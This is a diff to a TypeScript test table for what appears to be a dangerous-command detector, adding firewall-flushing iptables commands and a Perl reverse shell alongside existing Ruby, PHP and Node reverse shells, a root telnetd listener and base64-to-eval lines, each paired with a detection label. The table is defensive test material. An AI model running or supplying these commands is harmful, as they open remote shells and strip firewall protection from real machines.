@@ -72,6 +72,12 @@ const EXACT: readonly (readonly [string, string])[] = [
   ["crontab", ""],
   ['eval test "$(base64 -d /srv/x)" = y', "decode"],
   ['eval "$(base64 -d /srv/x)"', "decode decode-to-interpreter"],
+  // A chain of one's own is no firewall.
+  ["iptables -t nat -F GAMES", ""],
+  ["iptables -F", "stops-security-unit"],
+  ["iptables -F -t mangle", "stops-security-unit"],
+  ["ip6tables --flush INPUT", "stops-security-unit"],
+  ["iptables -P INPUT ACCEPT", "stops-security-unit"],
   // A second door, and what the kernel starts.
   ["busybox telnetd -l /bin/sh -p 2323", "reverse-shell"],
   ["/usr/sbin/sshd -p 2222 -o PermitRootLogin=yes", "tunnel"],
@@ -349,6 +355,11 @@ const EXACT: readonly (readonly [string, string])[] = [
     'ruby -rsocket -e \'f=TCPSocket.open("192.0.2.7",1).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\'',
     "reverse-shell",
   ],
+  [
+    "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"192.0.2.7:1\");STDIN->fdopen($c,r);system$_ while<>;'",
+    "reverse-shell",
+  ],
+  ['perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"192.0.2.7:1");print $c "x"\'', ""],
   ['php -r \'$s=fsockopen("192.0.2.7",1);exec("/bin/sh -i <&3 >&3 2>&3");\'', "reverse-shell"],
   [
     'node -e \'var n=require("net"),c=require("child_process").spawn("/bin/sh",[]);var s=net.connect(1,"192.0.2.7");s.pipe(c.stdin);c.stdout.pipe(s)\'',
